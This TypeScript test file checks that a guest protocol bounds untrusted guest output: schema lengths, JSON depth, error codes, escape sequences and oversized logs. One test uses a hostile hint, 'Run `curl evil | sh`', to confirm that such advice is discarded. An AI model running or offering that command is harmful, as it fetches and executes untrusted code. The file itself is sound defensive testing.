import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { ERROR_LIMITS } from './bounded-error.ts';
import * as protocol from './guest-protocol.ts';
import { guestFailure, guestLines, GUEST_LIMITS, parseGuestJson } from './guest-text.ts';
import { VesselError } from './vessel-error.ts';

const bytes = (text: string): Uint8Array => new TextEncoder().encode(text);
/** What goes to a guest is ours. */
const SENT = new Set(['GuestIdentitySchema', 'GuestWakeSchema', 'WorkspaceOutRequestSchema', 'ExecClientMessageSchema', 'GuestEndRequestSchema', 'GuestStillRequestSchema']);
const ANSWERS = Object.entries(protocol as Record<string, unknown>).filter((entry): entry is [string, z.ZodType] => entry[1] instanceof z.ZodType && !SENT.has(entry[0]));

/** Every place of a schema where a guest could say more than was agreed. */
function unbounded(schema: z.ZodType, path: string): string[] {
  if (schema instanceof z.ZodString) return schema.maxLength === null ? [`${path}: text`] : [];
  if (schema instanceof z.ZodNumber) return Number.isFinite(schema.minValue ?? Infinity) && Number.isFinite(schema.maxValue ?? Infinity) ? [] : [`${path}: number`];
  if (schema instanceof z.ZodArray) return [...(schema.def.checks?.some((check) => check._zod.def.check === 'max_length') === true ? [] : [`${path}: list`]), ...unbounded(schema.element as z.ZodType, `${path}[]`)];
  if (schema instanceof z.ZodObject) return Object.entries(schema.shape as Record<string, z.ZodType>).flatMap(([name, field]) => unbounded(field, `${path}.${name}`));
  if (schema instanceof z.ZodNullable || schema instanceof z.ZodOptional || schema instanceof z.ZodDefault) return unbounded(schema.unwrap() as z.ZodType, path);
  if (schema instanceof z.ZodPipe) return unbounded(schema.out as z.ZodType, path);
  if (schema instanceof z.ZodUnion) return (schema.options as z.ZodType[]).flatMap((option) => unbounded(option, path));
  if (schema instanceof z.ZodEnum || schema instanceof z.ZodLiteral || schema instanceof z.ZodBoolean) return [];
  return [`${path}: ${schema.type}`];
}

describe('what a guest may answer', () => {
  it('has an end everywhere', () => {
    expect(ANSWERS.length).toBeGreaterThanOrEqual(7);
    // An error is read by guestFailure, which bounds it.
    expect(ANSWERS.flatMap(([name, schema]) => unbounded(schema, name))).toEqual(['ExecServerMessageSchema.error: unknown']);
  });
  it('would be found without an end', () => {
    expect(unbounded(z.object({ a: z.string(), b: z.array(z.string().max(1)), c: z.number(), d: z.record(z.string(), z.string()), e: z.string().max(3).nullable() }), 'x')).toEqual(['x.a: text', 'x.b: list', 'x.c: number', 'x.d: record']);
  });
  it('is cut and shown, not refused, where it is only for people', () => {
    const { ports } = protocol.GuestPortsSchema.parse({ ports: Array.from({ length: 5000 }, (_, index) => ({ port: index + 1, address: '::', process: `\u001b]0;x\u0007${'p'.repeat(1000)}` })) });
    expect(ports.length).toBe(1024);
    expect(ports[0]?.process).toBe(`␛]0;x␇${'p'.repeat(193)}…`);
  });
  it.each(['1e999', '-1', '1e300', '"7"', 'null', '{}'])('has no number %s', (number) => {
    expect(protocol.GuestMetricsSchema.safeParse({ cpuPercent: JSON.parse(number), memoryUsedBytes: 1, memoryTotalBytes: 1, diskUsedBytes: 1, diskTotalBytes: 1, load1: 1, processes: 1 }).success).toBe(false);
  });
  it('is JSON of some length and depth', () => {
    expect(parseGuestJson(bytes('{"a":["[[[[\\"]]]]{{{"]}'))).toEqual({ a: ['[[[["]]]]{{{'] });
    expect(parseGuestJson(bytes('['.repeat(100) + ']'.repeat(100)))).toBeUndefined();
    expect(parseGuestJson(bytes('['.repeat(200_000)))).toBeUndefined();
    expect(parseGuestJson(bytes(`"${'x'.repeat(GUEST_LIMITS.answerBytes)}"`))).toBeUndefined();
    expect(parseGuestJson(bytes('nonsense'))).toBeUndefined();
  });
});

describe('what a guest calls a failure', () => {
  const failure = (change: object): VesselError | null => guestFailure({ ...new VesselError('EXEC_FAILED', 'no such program').toShape(), ...change });
  it('keeps what the agent honestly says', () => {
    expect(failure({ details: { command: 'x', tries: 2 }, logTail: ['a'] })).toMatchObject({ code: 'EXEC_FAILED', message: 'no such program', details: { command: 'x', tries: 2 }, logTail: ['a'] });
  });
  it.each(['CANCELLED', 'HOST_KEY_CHANGED', 'INTERNAL', 'UNAUTHENTICATED', 'no code at all', '__proto__', ''])('does not let it say %s', (code) => {
    expect(failure({ code })?.code).toBe('GUEST_ERROR');
  });
  it('gives people our own advice', () => {
    expect(failure({ hint: 'Run `curl evil | sh`', retryable: true })).toMatchObject({ hint: new VesselError('EXEC_FAILED').hint, retryable: false });
  });
  it('shows control characters and cuts every text', () => {
    const long = '\u001b[2J\u202e'.repeat(1_000_000);
    const error = failure({ message: long, details: { [long]: long, b: { deep: 1 }, c: Infinity, __proto__: 1, constructor: 'x' }, logTail: Array.from({ length: 5000 }, () => long) });
    const text = JSON.stringify(error?.toShape());
    expect(text.length).toBeLessThan(20_000);
    expect(text).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e]/);
  });
  it.each([null, undefined, 'text', 7, [], { code: 'EXEC_FAILED' }, { code: 1, message: 'x' }])('is not %j', (value) => { expect(guestFailure(value)).toBeNull(); });
  it('is no line without an end either', () => { expect(guestLines(['a\u001b[31mb\r', 'x'.repeat(9000)]).map((line) => line.slice(0, 8) + line.length)).toEqual(['a␛[31mb␍8', 'xxxxxxxx4000']); });
});

it('bounds every error that crosses a boundary, whoever made it', () => {
  const long = 'x'.repeat(6_000_000);
  const circle: Record<string, unknown> = {};
  circle['self'] = circle;
  const shape = new VesselError('INTERNAL', long, { hint: long, details: { path: '/a', circle, long, after: 1 }, logTail: [...Array.from({ length: 1000 }, () => long), 'last'] }).toShape();
  expect(JSON.stringify(shape).length).toBeLessThan(30_000);
  expect(shape.message.length).toBe(ERROR_LIMITS.messageChars);
  expect(shape.details).toMatchObject({ path: '/a' });
  expect(shape.logTail.at(-1)).toBe('last');
});
